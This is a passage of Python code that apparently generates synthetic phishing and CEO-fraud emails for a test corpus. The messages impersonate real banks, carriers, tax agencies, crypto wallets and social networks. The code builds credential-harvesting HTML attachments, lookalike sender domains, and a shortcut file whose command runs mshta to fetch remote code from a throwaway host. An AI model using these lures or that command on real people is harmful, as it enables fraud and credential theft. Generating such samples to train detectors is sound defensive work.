                "Accounts not validated will be disabled after the migration window.",
            ],
            "Validate mailbox",
            url,
            brand=DOM,
        )
    elif t == 2:
        n = r.randint(4, 22)
        subj = r.choice(
            [
                f"Mail delivery failed: {n} messages to {rcpt} were not delivered",
                f"{DOM}: ({n}) incoming mails blocked",
                f"Undeliverable: {n} messages held for {local}",
            ]
        )
        lu = Lure(
            f"{n} incoming messages are pending",
            [
                f"Messages to {rcpt} could not be delivered due to a mail server error. Log in to recover your messages.",
                f"Server: mail.{DOM}",
            ],
            "Recover messages",
            url,
            brand="Mail Delivery Subsystem",
        )
    elif t == 3:
        subj = r.choice(
            [
                f"Password reset required for {rcpt}",
                f"{DOM} security policy: update your password",
                f"Your {DOM} password expires today",
            ]
        )
        lu = Lure(
            f"Password policy - {DOM}",
            [
                f"Your password for {rcpt} expires on {(dt + timedelta(days=1)).strftime('%d/%m/%Y')}. Use the link below to keep your current password."
            ],
            "Keep current password",
            url,
            shown=f"https://webmail.{DOM}/keep-password",
            brand=DOM,
        )
    else:
        subj = r.choice(
            [
                f"{rcpt} - SPAM messages quarantined",
                f"Email Quarantine Report for {rcpt}",
                f"{DOM} spam digest",
            ]
        )
        rows = [
            f"{pname(r)[0].lower()}@{r.choice(COMPROMISED)[1]}  |  {r.choice(['Payment Confirmation', 'Purchase order', 'Lease query', 'Deposit returned', 'Invoice overdue'])}"
            for _ in range(r.randint(3, 5))
        ]
        lu = Lure(
            "Quarantine summary",
            [
                f"The following messages sent to {rcpt} were held:",
                *rows,
                "Release messages to your inbox or they will be deleted in 3 days.",
            ],
            "Release all",
            url,
            brand=f"{DOM} Email Security",
        )
    kind = r.choice(["spoof", "spoof", "compromised", "throwaway", "m365"])
    return send(
        r,
        brand,
        DOM,
        subj,
        lu,
        rcpt,
        kind=kind,
        local=r.choice(["admin", "postmaster", "support", "it", "mailer-daemon", "webmaster"]),
        level=0.5,
        dt=dt,
    )


BILLING = [
    ("AIB", "aib.ie", "bank"),
    ("Bank of Ireland", "bankofireland.com", "bank"),
    ("Revolut", "revolut.com", "bank"),
    ("PTSB", "ptsb.ie", "bank"),
    ("Chase", "chase.com", "bank"),
    ("Wells Fargo", "wellsfargo.com", "bank"),
    ("Visa Secure", "visa.com", "card"),
    ("Mastercard ID Check", "mastercard.com", "card"),
    ("American Express", "americanexpress.com", "card"),
    ("Apple", "apple.com", "apple"),
    ("PayPal", "paypal.com", "paypal"),
    ("Netflix", "netflix.com", "stream"),
    ("Disney+", "disneyplus.com", "stream"),
    ("Spotify", "spotify.com", "stream"),
    ("Amazon", "amazon.com", "amazon"),
    ("Costco", "costco.com", "costco"),
    ("Eir", "eir.ie", "telecom"),
    ("Vodafone", "vodafone.ie", "telecom"),
    ("Verizon", "verizon.com", "telecom"),
    ("Three", "three.ie", "telecom"),
]


def f_billing(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom, kind = BILLING[(i * 7 + r.randrange(3)) % len(BILLING)]
    url = lure_link(r, brand, rcpt)
    name = who(rcpt)
    amt = f"{r.choice(['€', '$', '£'])}{r.randint(9, 1400)}.{r.randint(0, 99):02d}"
    if kind == "bank":
        k = r.randrange(3)
        subj = r.choice(
            [
                [f"{brand} - New payee added to your account", f"{brand}: was this you? New payee"],
                [
                    f"Your {brand} online banking has been restricted",
                    f"{brand}: Unusual activity on your account",
                ],
                [f"Action required: confirm payment of {amt}", f"{brand}: payment pending confirmation"],
            ][k]
        )
        lu = Lure(
            "Important security notice",
            [
                f"Dear {r.choice([name, 'Customer', 'Valued Customer'])},",
                [
                    f"A new payee was added to your account on {rdate(r).strftime('%d/%m/%Y')}. If you did not authorise this, cancel it immediately.",
                    "We have temporarily restricted your online banking because we could not verify recent activity.",
                    f"A payment of {amt} is pending and requires confirmation. If you do not recognise it, log in to stop it.",
                ][k],
                "To keep full access please complete verification within 24 hours.",
            ],
            r.choice(
                [
                    ["Cancel payee", "This wasn't me"],
                    ["Restore access", "Verify now"],
                    ["Review payment", "Log in"],
                ][k]
            ),
            url,
            brand=brand,
            color="#6b2d8f",
        )
    elif kind == "card":
        subj = r.choice(
            [
                "Your card has been temporarily suspended",
                f"Declined transaction: {amt}",
                f"{brand}: confirm recent purchase",
            ]
        )
        lu = Lure(
            "We declined a transaction on your card",
            [
                f"Card ending {digits(r, 4)}",
                f"Amount: {amt}  Merchant: {r.choice(['ALIEXPRESS', 'BINANCE.COM', 'STEAMGAMES', 'APPLE.COM/BILL'])}",
                "If this was not you, confirm your card details so we can reissue your card.",
            ],
            "Review transaction",
            url,
            brand=brand,
            color="#1a1f71",
        )
    elif kind == "apple":
        subj = r.choice(
            [
                "Your Apple ID has been locked for security reasons",
                f"Your receipt from Apple. {ref(r, 'M')}",
                "Apple ID: Your account is disabled",
                "Your iCloud storage payment failed",
            ]
        )
        lu = Lure(
            r.choice(
                ["Your Apple ID has been locked", "Receipt", "Your iCloud+ subscription could not be renewed"]
            ),
            [
                f"Dear {name},",
                r.choice(
                    [
                        f"Your Apple ID ({rcpt}) was used to sign in to iCloud via a web browser from an unknown device.",
                        f"Order {ref(r, 'ML')}: Final Cut Pro  {amt}. If you did not authorise this purchase, cancel within 24 hours.",
                        "We were unable to process your payment. Your photos and videos will be deleted if you do not update your payment information.",
                    ]
                ),
            ],
            r.choice(["Unlock Account", "Cancel purchase", "Update payment"]),
            url,
            brand="Apple",
            color="#0071e3",
        )
    elif kind == "paypal":
        subj = r.choice(
            [
                "Your account has been limited",
                f"You sent a payment of {amt} to {r.choice(['Coinbase Inc', 'Crypto Dot Com', 'Geek Support LLC'])}",
                "PayPal: Confirm your identity",
            ]
        )
        lu = Lure(
            r.choice(["We've limited your account", "Receipt for your payment"]),
            [
                f"Hello {name},",
                r.choice(
                    [
                        "We noticed some unusual activity and have temporarily limited what you can do with your account.",
                        f"You sent {amt} to an unknown recipient. If you didn't authorise this, log in to dispute the transaction.",
                    ]
                ),
            ],
            r.choice(["Log In", "Resolve now", "Dispute"]),
            url,
            brand="PayPal",
            color="#003087",
        )
    elif kind == "stream":
        subj = r.choice(
            [
                f"{brand}: Your membership is on hold",
                "Payment declined - update your details",
                f"Your {brand} account has been suspended",
                "We could not authorise your payment",
            ]
        )
        lu = Lure(
            "Please update your payment method",
            [
                f"Hi {name},",
                "We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.",
                f"Amount due: {amt}",
            ],
            "UPDATE ACCOUNT NOW",
            url,
            brand=brand,
            color="#e50914",
        )
    elif kind == "amazon":
        subj = r.choice(
            [
                "Your Amazon Prime membership could not be renewed",
                f"Your order #{digits(r, 3)}-{digits(r, 7)}-{digits(r, 7)} has been cancelled",
                "Amazon: Action needed - account on hold",
            ]
        )
        lu = Lure(
            r.choice(["Prime membership renewal failed", "Account on hold"]),
            [
                f"Hello {name},",
                "We were unable to charge your payment method for your Prime membership. Until it is updated your benefits are suspended.",
                "Please update your billing information within 3 days to avoid cancellation.",
            ],
            "Update payment method",
            url,
            brand="amazon",
            color="#ff9900",
        )
    elif kind == "costco":
        subj = r.choice(
            [
                "Congratulations! You've been selected for a Costco reward",
                "Costco Member Survey: claim your gift",
                "Your Costco membership reward is waiting",
            ]
        )
        lu = Lure(
            "Loyalty reward",
            [
                f"Dear Member, you have been chosen to receive a {r.choice(['Dyson V15', 'Ninja air fryer', 'KitchenAid mixer', '$100 gift card'])}.",
                "Complete a 30-second survey and pay only shipping ($2.95) to claim.",
            ],
            "Claim your reward",
            url,
            brand="Costco Wholesale",
            color="#e31837",
        )
    else:
        subj = r.choice(
            [
                f"{brand}: Your bill could not be paid",
                "Final notice - service suspension",
                f"{brand} account: refund of {amt} pending",
            ]
        )
        lu = Lure(
            r.choice(["Your payment failed", "You are owed a refund"]),
            [
                f"Dear {name},",
                r.choice(
                    [
                        f"Your direct debit for {amt} was returned unpaid. Service will be suspended within 48 hours.",
                        f"You overpaid your last bill. A refund of {amt} is waiting to be released to your card.",
                    ]
                ),
            ],
            r.choice(["Pay now", "Claim refund"]),
            url,
            brand=brand,
            color="#e60000",
        )
    cs = r.choice(["utf-8", "utf-8", "windows-1252", "iso-8859-1"])
    return send(r, brand, bdom, subj, lu, rcpt, cs=cs, level=0.5)


CARRIERS = [
    ("An Post", "anpost.ie", "€"),
    ("DHL Express", "dhl.com", "€"),
    ("FedEx", "fedex.com", "$"),
    ("UPS", "ups.com", "$"),
    ("Evri", "evri.com", "£"),
    ("Aramex", "aramex.com", "$"),
    ("USPS", "usps.com", "$"),
    ("Royal Mail", "royalmail.com", "£"),
    ("Canada Post", "canadapost.ca", "$"),
    ("NZ Post", "nzpost.co.nz", "$"),
    ("Australia Post", "auspost.com.au", "$"),
    ("DPD Ireland", "dpd.ie", "€"),
]


def f_parcel(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom, cur = CARRIERS[i % len(CARRIERS)]
    url = lure_link(r, brand.split()[0], rcpt)
    fee = f"{cur}{r.choice(['1.99', '2.45', '2.99', '3.10', '1.45', '4.25', '0.99'])}"
    trk = r.choice(
        [
            f"{rs(r, 2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{digits(r, 9)}IE",
            f"1Z{rs(r, 16, UHEX)}",
            digits(r, 12),
            f"JD0{digits(r, 15)}",
        ]
    )
    t = r.randrange(4)
    if t == 0:
        subj = r.choice(
            [
                f"Your parcel is on hold: customs fee {fee} unpaid",
                f"{brand}: Import duty payment required ({trk})",
                f"Shipment {trk} awaiting customs clearance",
            ]
        )
        paras = [
            f"Your shipment {trk} has arrived at our depot but is being held because import duties / customs fees of {fee} have not been paid.",
            "If payment is not received within 48 hours the parcel will be returned to the sender.",
        ]
        btn = "Pay now"
    elif t == 1:
        subj = r.choice(
            [
                f"{brand}: Delivery attempt failed",
                "We missed you - reschedule your delivery",
                f"Delivery notice {trk}",
            ]
        )
        paras = [
            f"We attempted to deliver your package {trk} today but nobody was available / the address was incomplete.",
            f"Please confirm your address and pay the redelivery fee of {fee}.",
        ]
        btn = "Reschedule delivery"
    elif t == 2:
        subj = r.choice(
            [
                f"Incoming shipment: AWB {trk}",
                f"{brand} Shipment Notification - Original documents",
                "Your package has been shipped",
            ]
        )
        paras = [
            f"AWB: {trk}",
            f"Origin: {r.choice(['Shenzhen, CN', 'Istanbul, TR', 'Dubai, AE', 'Rotterdam, NL'])}",
            "Documents: Commercial invoice, packing list, BL draft",
            "Sign in to view the shipping documents and confirm delivery.",
        ]
        btn = "View documents"
    else:
        subj = f"[{brand}] {r.choice(['Address confirmation required', 'Your parcel could not be delivered', 'Final delivery attempt'])}"
        paras = [
            f"Parcel {trk}: status - HELD",
            f"Outstanding fee: {fee}",
            "Update details at the link below.",
        ]
        btn = "Update details"
    lu = Lure(
        r.choice(["Your package is on hold", "Delivery update", "Action required", "Shipment notification"]),
        paras,
        btn,
        url,
        brand=brand,
        color=r.choice(["#ffcc00", "#4d148c", "#351c15", "#d40511", "#00a64f"]),
        footer=f"(c) {brand}. This is an automatically generated message - please do not reply.",
    )
    shape = r.choice(["alt", "html", "plain", "alt"])
    return send(
        r, brand, bdom, subj, lu, rcpt, shape=shape, cs=r.choice(["utf-8", "iso-8859-1", "windows-1252"])
    )


TOLLS = [
    ("eFlow", "eflow.ie", "€", "M50 barrier-free toll"),
    ("E-ZPass", "e-zpassny.com", "$", "toll road"),
    ("SunPass", "sunpass.com", "$", "Florida toll"),
    ("FasTrak", "bayareafastrak.org", "$", "Bay Area toll"),
    ("Dart Charge", "dartford-crossing-charge.service.gov.uk", "£", "Dartford Crossing"),
    ("Linkt", "linkt.com.au", "$", "toll road"),
    ("Dublin City Council Parking", "dublincity.ie", "€", "parking"),
    ("Waka Kotahi NZTA", "nzta.govt.nz", "$", "road toll"),
]


def f_toll(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom, cur, _what = TOLLS[i % len(TOLLS)]
    url = lure_link(r, brand.split()[0], rcpt)
    amt = f"{cur}{r.choice(['3.10', '4.80', '6.99', '11.69', '12.51', '3.85', '25.00'])}"
    pen = f"{cur}{r.choice(['50.00', '75.00', '90.00', '100.00'])}"
    parking = "parking" in TOLLS[i % len(TOLLS)][3]
    subj = (
        r.choice(
            [
                f"Unpaid toll notice: {amt} outstanding",
                f"{brand}: Final reminder - toll balance overdue",
                "Outstanding toll charge - avoid late fee",
                f"Invoice {ref(r)}: unpaid {TOLLS[i % len(TOLLS)][3]}",
            ]
        )
        if not parking
        else r.choice(
            [
                f"Penalty Charge Notice {ref(r, 'PCN')}",
                "Parking fine: payment due in 7 days",
                "Notice of parking violation",
            ]
        )
    )
    paras = [
        f"Our records show an unpaid {TOLLS[i % len(TOLLS)][3]} charge of {amt} for your vehicle {r.choice(['251-D-' + digits(r, 5), '24-KE-' + digits(r, 4), rs(r, 3, 'ABCDEFGHJKLMN') + digits(r, 4)])}.",
        f"To avoid a late fee of {pen} and possible referral to a debt collector, please pay by {(rdate(r)).strftime('%d %B %Y')}.",
    ]
    lu = Lure(
        "Toll payment notice" if not parking else "Penalty Charge Notice",
        paras,
        "Pay now",
        url,
        brand=brand,
        color="#005eb8",
    )
    shape = r.choice(["plain", "plain", "html", "alt"])
    return send(
        r,
        brand,
        bdom,
        subj,
        lu,
        rcpt,
        shape=shape,
        kind=r.choice(["throwaway", "throwaway", "freemail", "compromised", "spoof"]),
    )


GOV = [
    ("Revenue", "revenue.ie", "€", "tax refund"),
    ("HMRC", "hmrc.gov.uk", "£", "tax rebate"),
    ("IRS", "irs.gov", "$", "tax refund"),
    ("Inland Revenue (IRD)", "ird.govt.nz", "$", "tax refund"),
    ("Canada Revenue Agency", "canada.ca", "$", "CRA refund"),
    ("Australian Taxation Office", "ato.gov.au", "$", "refund"),
    ("myGov", "my.gov.au", "$", "inbox"),
    ("Medicare", "servicesaustralia.gov.au", "$", "benefit"),
    ("Social Security Administration", "ssa.gov", "$", "statement"),
    ("Department of Social Protection", "gov.ie", "€", "cost of living payment"),
]


def f_tax(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom, cur, what = GOV[i % len(GOV)]
    url = lure_link(r, brand.split()[0], rcpt)
    amt = f"{cur}{r.randint(180, 1400)}.{r.randint(0, 99):02d}"
    if what == "inbox":
        subj = "You have a new message in your myGov inbox"
        paras = [
            "A new message from the Australian Taxation Office is available in your myGov inbox.",
            "Sign in to myGov to read it.",
        ]
        btn = "Sign in"
    elif what == "statement":
        subj = r.choice(
            ["Your Social Security Statement is ready", "SSA: Annual statement available for download"]
        )
        paras = [
            "Your annual Social Security statement is now available.",
            "Download it using the secure link below (Windows computers only).",
        ]
        btn = "Download statement"
        url = f"https://{throwaway_domain(r)}/SSA_Statement_{digits(r, 6)}.exe" if r.random() < 0.5 else url
    else:
        subj = r.choice(
            [
                f"{brand}: You are eligible for a {what} of {amt}",
                f"Notice of {what} - {ref(r)}",
                f"{brand}: Action required to receive your {what}",
                f"Your {what} of {amt} is pending",
            ]
        )
        paras = [
            f"After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a {what} of {amt}.",
            "Please submit the refund request and allow 3-5 business days for processing.",
            r.choice(
                [
                    "A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.",
                    f"Reference: {ref(r)}",
                ]
            ),
        ]
        btn = r.choice(["Claim refund", "Access your refund", "Submit request"])
    lu = Lure(brand, paras, btn, url, brand=brand, color="#005a4e")
    return send(
        r,
        brand,
        bdom,
        subj,
        lu,
        rcpt,
        kind=r.choice(["spoof", "throwaway", "compromised", "lookalike", "freemail"]),
        cs=r.choice(["utf-8", "iso-8859-1"]),
        shape=r.choice(["", "plain"]),
    )


CRYPTO = [
    ("Coinbase", "coinbase.com"),
    ("Binance", "binance.com"),
    ("MetaMask", "metamask.io"),
    ("Ledger", "ledger.com"),
    ("Trezor", "trezor.io"),
    ("Kraken", "kraken.com"),
    ("Crypto.com", "crypto.com"),
    ("Trust Wallet", "trustwallet.com"),
]


def f_crypto(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom = CRYPTO[i % len(CRYPTO)]
    url = lure_link(r, brand.split(".")[0], rcpt)
    amt = f"{r.choice(['0.4821 BTC', '2.91 ETH', '14,250 USDT', '0.1375 BTC', '6,800 USDC'])}"
    if brand in ("MetaMask", "Ledger", "Trezor", "Trust Wallet"):
        subj = r.choice(
            [
                f"{brand}: Mandatory wallet verification",
                f"Security incident - action required for {brand} users",
                f"Your {brand} wallet will be suspended",
                f"{brand} firmware update: secure your recovery phrase",
            ]
        )
        paras = [
            r.choice(
                [
                    "Following a recent data breach affecting a third-party provider, we are requiring all users to re-verify wallet ownership.",
                    "New KYC regulations require all wallets to be verified before the deadline.",
                    "A critical vulnerability has been found. Please migrate your funds to a new secure wallet.",
                ]
            ),
            "Unverified wallets will be restricted and may lose access to their assets.",
            "Verification takes less than 5 minutes and requires your 12 or 24 word recovery phrase.",
        ]
        btn = "Verify wallet"
    else:
        subj = r.choice(
            [
                f"Withdrawal request: {amt}",
                f"{brand}: New device login from {r.choice(['Hanoi, VN', 'Minsk, BY', 'Lagos, NG'])}",
                f"[{brand}] Your account has been frozen",
                f"{brand}: confirm your withdrawal address",
            ]
        )
        paras = [
            f"A withdrawal of {amt} to address {r.choice(['bc1q', '0x', 'T'])}{rs(r, 34, LOWER)} was requested from your account.",
            "If this wasn't you, cancel the withdrawal immediately and secure your account.",
            f"Request ID: {rs(r, 24, HEX)}",
        ]
        btn = "Cancel withdrawal"
    lu = Lure(subj.split(":")[-1].strip(), paras, btn, url, brand=brand, color="#1652f0")
    return send(r, brand, bdom, subj, lu, rcpt, level=0.5)


SOCIAL = [
    ("Meta for Business", "facebookmail.com"),
    ("Instagram", "mail.instagram.com"),
    ("TikTok", "tiktok.com"),
    ("LinkedIn", "linkedin.com"),
    ("Meta Ads", "business.facebook.com"),
    ("X Support", "x.com"),
]


def f_social(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    brand, bdom = SOCIAL[i % len(SOCIAL)]
    url = lure_link(r, brand.split()[0], rcpt)
    case = digits(r, 14)
    page = r.choice(["Liffeyside Property Management", "Liffeyside Lettings", "LiffeysidePM"])
    if brand.startswith("Meta"):
        subj = r.choice(
            [
                f"Your page {page} has been scheduled for permanent deletion",
                f"Meta Policy Violation - Case #{case}",
                "Final warning: your ad account has been restricted",
                "Your Page was reported for intellectual property infringement",
            ]
        )
        paras = [
            f'Your page "{page}" has been found in violation of our Community Standards regarding {r.choice(["trademark infringement", "impersonation", "misleading advertising"])}.',
            "If you believe this is an error, you may submit an appeal within 24 hours. Otherwise your page will be permanently disabled.",
            f"Case number: #{case}",
        ]
        btn = "Request review"
    elif brand == "Instagram":
        subj = r.choice(
            [
                "Copyright infringement notice on your post",
                "Instagram: We've detected unusual login",
                "Your account will be verified (blue badge)",
            ]
        )
        paras = [
            "We have received a complaint that content on your account infringes copyright. To avoid removal, submit the objection form within 48 hours."
        ]
        btn = "Appeal"
    elif brand == "TikTok":
        subj = r.choice(
            ["TikTok Ads: your account has been suspended", "TikTok Shop seller verification required"]
        )
        paras = [
            "Your advertising account was suspended for policy violation. Verify your business details to restore your campaigns."
        ]
        btn = "Verify"
    elif brand == "LinkedIn":
        f, ln = pname(r)
        subj = r.choice(
            [
                f"{f} {ln} sent you a new message",
                "You appeared in 14 searches this week",
                f"{f} {ln} wants to share a document",
            ]
        )
        paras = [
            f"{f} {ln}, {r.choice(['Procurement Director', 'Senior Partner', 'Head of Facilities'])} at {r.choice(['Granton Estates', 'Harbourview Holdings', 'Northgate Capital'])}",
            f'"{r.choice(["Hi, we are looking for a managing agent for a portfolio of 120 units. Can you look at the tender document?", "I have a proposal for your company, please see the attached RFP."])}"',
        ]
        btn = "View message"
    else:
        subj = "Your account is temporarily locked"
        paras = [
            "Your account is locked for violating our rules on impersonation. Complete verification to unlock."
        ]
        btn = "Start"
    lu = Lure("Notification", paras, btn, url, brand=brand, color="#1877f2")
    return send(
        r,
        brand,
        bdom,
        subj,
        lu,
        rcpt,
        kind=r.choice(["throwaway", "freemail", "compromised", "lookalike", "spoof", "freemail"]),
    )


def f_invoice(r: random.Random, i: int) -> bytes:
    rcpt = r.choice([f"accounts@{DOM}", AP.email, FIN.email, f"info@{DOM}", CEO.email])
    f, ln = pname(r)
    co = r.choice(
        [
            "Castlebrook Joinery Ltd",
            "Meridian Facility Supplies",
            "Atlas Cleaning Services",
            "Norseway Plumbing & Heating",
            "Kilmore Electrical",
            "BlueRidge Fire Protection",
            "Pacific Rim Trading Co",
            "Solent Lift Maintenance",
            "Eurotech Components GmbH",
        ]
    )
    inv = ref(r, r.choice(["INV-", "PO", "RFQ-", "REM-", ""]))
    kindword = r.choice(
        [
            "Invoice",
            "Purchase Order",
            "Request for Quotation",
            "Remittance Advice",
            "Payment Confirmation",
            "Statement of Account",
            "Proforma Invoice",
        ]
    )
    subj = r.choice(
        [
            f"{kindword} {inv}",
            f"RE: {kindword} #{inv}",
            f"{co} - {kindword} {inv}",
            f"New {kindword} from {co}",
            f"{kindword} - overdue",
            f"Fwd: {kindword} {inv} ({r.choice(['URGENT', 'reminder', 'copy'])})",
        ]
    )
    t = i % 9
    url = lure_link(r, "invoice", rcpt)
    atts: list[Ent] = []
    note = ""
    if t == 0:
        atts.append(
            attach(
                f"{kindword.replace(' ', '_')}_{inv}.pdf",
                PDF,
                fake_pdf(
                    r,
                    f"{kindword.upper()} {inv}",
                    [
                        co,
                        "This document is protected. Click below to view the full document.",
                        "VIEW DOCUMENT",
                        f"Amount due: EUR {r.randint(2000, 48000)}.00",
                    ],
                    url,
                ),
            )
        )
        note = "Please find attached the document for your review."
    elif t == 1:
        atts.append(
            attach(
                r.choice(
                    [
                        f"{kindword.replace(' ', '_')}_{inv}.html",
                        f"{inv}.htm",
                        f"Payment_Copy_{digits(r, 6)}.shtml",
                    ]
                ),
                "text/html",
                html_form_attachment(
                    r, r.choice(["Microsoft Excel Online", "Adobe Acrobat", "OneDrive"]), rcpt, post_url(r)
                ),
            )
        )
        note = "Attached is the payment copy. Kindly confirm receipt."
    elif t == 2:
        atts.append(
            attach(f"{kindword.replace(' ', '_')}_{inv}.svg", "image/svg+xml", svg_attachment(r, co, url))
        )
        note = "Please see the attached remittance."
    elif t == 3:
        inner = r.choice(
            [f"{kindword.replace(' ', '_')}_{inv}.js", f"{inv}.wsf", f"Invoice_{inv}.hta", f"{inv}.html"]
        )
        payload = (
            b"// "
            + rs(r, 60).encode()
            + b"\nvar _0x"
            + rs(r, 4, HEX).encode()
            + b"=['"
            + base64.b64encode(r.randbytes(90))
            + b"'];\n"
            if not inner.endswith(".html")
            else html_form_attachment(r, "Microsoft", rcpt, post_url(r))
        )
        atts.append(
            attach(f"{kindword.replace(' ', '_')}_{inv}.zip", "application/zip", fake_zip({inner: payload}))
        )
        note = "Zipped copy of the invoice attached due to size."
    elif t == 4:
        pw = r.choice(["1234", "2025", "INV" + digits(r, 3), rs(r, 4, UHEX)])
        if r.random() < 0.5:
            atts.append(
                attach(
                    f"{inv}.zip",
                    "application/zip",
                    fake_zip({f"{kindword.replace(' ', '_')}_{inv}.exe": r.randbytes(700)}, encrypted=True),
                )
            )
        else:
            atts.append(attach(f"{inv}.7z", "application/x-7z-compressed", fake_7z(r)))
        note = f"The document is password protected for security. Password: {pw}"
    elif t == 5:
        ext = r.choice(["iso", "img"])
        atts.append(
            attach(
                f"{kindword.replace(' ', '_')}_{inv}.{ext}",
                "application/octet-stream",
                fake_iso(r, f"{inv}.exe"),
            )
        )
        note = "Original documents attached (disk image)."
    elif t == 6:
        lnk = fake_lnk(
            r,
            "C:\\Windows\\System32\\cmd.exe",
            f"/c start /min conhost mshta https://{throwaway_domain(r)}/{rs(r, 6, LOWER)}",
        )
        if r.random() < 0.5:
            atts.append(
                attach(
                    f"{inv}.zip",
                    "application/zip",
                    fake_zip({f"{kindword}_{inv}.pdf.lnk": lnk, "readme.txt": b"Open the PDF to view."}),
                )
            )
        else:
            atts.append(attach(f"{kindword}_{inv}.pdf.lnk", "application/octet-stream", lnk))
        note = "Please check the attached and advise."
    elif t == 7:
        name = r.choice(
            [
                f"{kindword.replace(' ', '_')}_{inv}.pdf.html",
                f"{inv}.xlsx.htm",
                f"Remit_{inv}.docx.shtml",
                f"{inv}.pdf      .html",
            ]
        )
        atts.append(attach(name, "text/html", html_form_attachment(r, "Adobe PDF", rcpt, post_url(r))))
        note = "Invoice attached, please process."
    else:
        atts.append(
            attach(
                f"{kindword.replace(' ', '_')}_{inv}.one",
                "application/onenote",
                fake_onenote(r, "Double click to view document"),
            )
        )
        note = "Attached is the OneNote file with the order details. Double-click 'Open' to view."
    text = r.choice(
        [
            f"Hello,\n\n{note}\n\nRegards,\n{f} {ln}\n{co}\n",
            f"Dear Sir/Madam,\n\nGood day. {note}\n\nKindly let us know your best price and delivery time at your earliest.\n\nBest regards,\n{f} {ln}\nPurchasing Manager\n{co}\nTel: +{r.randint(30, 90)} {digits(r, 3)} {digits(r, 6)}\n",
            f"Hi {who(rcpt)},\n\n{note} Payment is overdue - appreciate if you can arrange today.\n\nThanks\n{f}\n",
        ]
    )
    cs = r.choice(["utf-8", "windows-1252", "iso-8859-1", "us-ascii"])
    shape = r.choice(["plain", "plain", "alt"])
    if shape == "plain":
        main = leaf("text/plain", text, cs, r.choice(["7bit", "quoted-printable", "base64"]))
    else:
        htm = (
            '<html><body style="font-family:Calibri">'
            + "".join(f"<p>{esc(p)}</p>" for p in text.split("\n\n"))
            + "</body></html>"
        )
        main = multi(
            r,
            "alternative",
            [
                leaf("text/plain", text, cs, "quoted-printable"),
                leaf("text/html", htm, cs, "quoted-printable"),
            ],
        )
    return send(
        r,
        co,
        "",
        subj,
        multi(r, "mixed", [main, *atts]),
        rcpt,
        kind=r.choice(["compromised", "compromised", "m365", "throwaway", "freemail", "lookalike"]),
        local=f.lower(),
        disp=r.choice([f"{f} {ln}", co, f"{f} {ln} | {co}", f"Accounts - {co}"]),
    )


SUPPLIERS = [
    ("Kilmore Electrical Ltd", "kilmoreelectrical.ie", "Brendan", "Kilmartin"),
    ("Atlas Cleaning Services", "atlascleaning.ie", "Joanne", "Prior"),
    ("Solent Lift Maintenance", "solentlifts.co.uk", "Gavin", "Reid"),
    ("Norseway Plumbing & Heating", "norsewayplumbing.ie", "Declan", "Ashe"),
    ("Greenleaf Grounds Care", "greenleafgrounds.ie", "Martina", "Cully"),
    ("Castlebrook Joinery Ltd", "castlebrookjoinery.ie", "Shane", "Doolan"),
]
OWN_LOOKALIKES = [
    "liffeyside-pm.ie",
    "liffeysidepm-ie.com",
    "liffeysldepm.ie",
    "liffeysidepm.com",
    "liffeysidepm.co",
    "iiffeysidepm.ie",
    "liffeysidepmgmt.com",
    "liffeyside-property.com",
]


def iban(r: random.Random) -> str:
    return r.choice(
        [
            f"IE{digits(r, 2)} {r.choice(['AIBK', 'BOFI', 'IPBS', 'REVO'])} {digits(r, 4)} {digits(r, 4)} {digits(r, 4)} {digits(r, 2)}",
            f"GB{digits(r, 2)} {r.choice(['MONZ', 'SRLG', 'CLRB'])} {digits(r, 4)} {digits(r, 4)} {digits(r, 4)} {digits(r, 2)}",
            f"LT{digits(r, 2)} {digits(r, 4)} {digits(r, 4)} {digits(r, 4)} {digits(r, 4)}",
        ]
    )


def exec_sender(r: random.Random, boss: Person) -> tuple[str, Route, str]:
    style = r.randrange(4)
    if style == 0:
        em = r.choice(
            [
                f"{boss.first.lower()}.{boss.last.lower()}{r.randint(1, 99)}@gmail.com",
                f"ceo.{boss.last.lower()}@outlook.com",
                f"{boss.first.lower()}{boss.last[0].lower()}.office@gmail.com",
                f"md.{rs(r, 5, string.ascii_lowercase)}@outlook.com",
            ]
        )
        return addr(boss.name, em), mk_route(r, "freemail", em), ""
    if style == 1:
        dom = r.choice(OWN_LOOKALIKES)
        em = f"{boss.first.lower()}.{boss.last.lower()}@{dom}"
        return addr(boss.name, em), mk_route(r, "lookalike", em), ""
    if style == 2:
        em = boss.email
        rt = mk_route(r, "spoof", em)
        rt.policy = r.choice(["none", "quarantine"])
        reply = f"{boss.first.lower()}.{boss.last.lower()}.exec@{r.choice(['gmail.com', 'outlook.com', 'protonmail.com'])}"
        return addr(boss.name, em), rt, reply
    em = f"{rs(r, 9, string.ascii_lowercase)}@{throwaway_domain(r)}"
    return addr(f"{boss.name} ({boss.title})", em), mk_route(r, "throwaway", em), ""


def f_bec(r: random.Random, i: int) -> bytes:
    t = i % 8
    dt = rdate(r)
    sig = r.choice(
        [
            "\n\nSent from my iPhone",
            "\n\nSent from my iPad",
            "\n\nSent from Outlook for Android",
            "\n\nGet Outlook for iOS",
            "",
        ]
    )
    cs = r.choice(["utf-8", "us-ascii", "windows-1252"])
    if t in (0, 1, 2):
        boss = r.choice([CEO, CEO, FIN])
        rcpt = r.choice([x for x in STAFF if x != boss]).email
        frm, rt, reply = exec_sender(r, boss)
        first = rcpt.split(".")[0].title()
        if t == 0:
            subj = r.choice(
                [
                    "Are you available?",
                    "Quick task",
                    "Request",
                    "Urgent",
                    f"{first}",
                    "Are you at your desk?",
                    "Hello",
                ]
            )
            text = r.choice(
                [
                    f"Hi {first},\n\nAre you available? I need you to handle a task for me discreetly. Reply with your mobile number, I'm tied up in a meeting and can't take calls.\n\n{boss.first}",
                    f"{first}, are you in the office? Let me know, I need a quick favour.",
                    f"Hello {first},\n\nHow quickly can you get back to me? I have something I need done today.\n\nRegards\n{boss.name}\n{boss.title}",
                ]
            )
        elif t == 1:
            n = r.choice([5, 6, 8, 10])
            card = r.choice(["Apple", "Amazon", "Google Play", "One4all", "Steam"])
            subj = r.choice(["Staff appreciation", "Gift cards", "Quick favour", "Surprise for the team"])
